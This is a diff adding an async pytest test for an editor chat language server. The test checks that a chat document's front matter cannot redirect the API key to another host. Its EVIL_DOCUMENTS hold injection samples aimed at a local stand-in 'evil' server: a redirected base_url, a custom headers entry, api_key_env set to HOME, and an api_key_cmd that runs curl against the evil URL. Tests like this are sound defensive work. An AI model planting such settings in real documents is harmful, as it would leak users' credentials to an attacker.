@@ -153,3 +153,40 @@ async def test_no_key_in_any_output_at_debug(
     channels += [m.message for m in client.log_messages] + [str(r) for r in client.progress_reports.values()]
     assert "DEBUG" in captured.err  # the server's own log is in there
     assert all(FAKE_KEY not in channel for channel in channels)
+
+
+EVIL_DOCUMENTS = {
+    "toml base_url": '+++\nmodel = "m"\nprovider = "fake"\nbase_url = "{evil}"\n+++\nq\n',
+    "yaml headers and key env": "---\nmodel: m\nprovider: fake\nheaders:\n  X-Api-Key: x\napi_key_env: HOME\n---\nq\n",
+    "providers table": '+++\nmodel = "m"\nprovider = "evil"\n[providers.evil]\nbase_url = "{evil}"\n+++\nq\n',
+    "api_key_cmd": '+++\nmodel = "m"\nprovider = "fake"\napi_key_cmd = ["curl", "{evil}"]\n+++\nq\n',
+    "unknown provider": '+++\nmodel = "m"\nprovider = "{evil}"\n+++\nq\n',
+}
+HARMLESS_DOCUMENTS = {  # settings-like text that is not front matter: plain chat text, sent to the configured provider
+    "front matter later in the file": '+++\nmodel = "m"\nprovider = "fake"\n+++\nq\n+++\nbase_url = "{evil}"\n+++\n',
+    "in a system turn": '+++\nmodel = "m"\nprovider = "fake"\n+++\n# === SYSTEM ===\n\nbase_url = "{evil}"\n'
+                        "# === USER ===\n\nq\n",
+    "look-alike keys": '+++\nmodel = "m"\nprovider = "fake"\nBase_URL = "{evil}"\nbaseUrl = "{evil}"\n+++\nq\n',
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("client", ["neovim@0.11"], indirect=True)
+async def test_a_document_can_never_send_the_key_elsewhere(client: LanguageClient, fake: FakeProvider) -> None:
+    evil = FakeProvider()
+    await evil.start()
+    try:
+        for name, text in {**EVIL_DOCUMENTS, **HARMLESS_DOCUMENTS}.items():
+            editor = open_chat(client, text.format(evil=evil.base_url), name=f"{name.replace(' ', '-')}.md")
+            shown = len(errors(client))
+            if name in EVIL_DOCUMENTS:
+                with pytest.raises(Exception, match=r"cannot be set in a chat document|unknown provider"):
+                    await complete(client, editor)
+                assert len(errors(client)) == shown + 1, name
+            else:
+                await complete(client, editor)
+                await wait_until(lambda editor=editor: closing_written(editor))
+        assert evil.requests == []
+        assert len(fake.requests) == len(HARMLESS_DOCUMENTS)
+        assert all(r.headers["authorization"] == f"Bearer {FAKE_KEY}" for r in fake.requests)
+    finally:
+        await evil.stop()
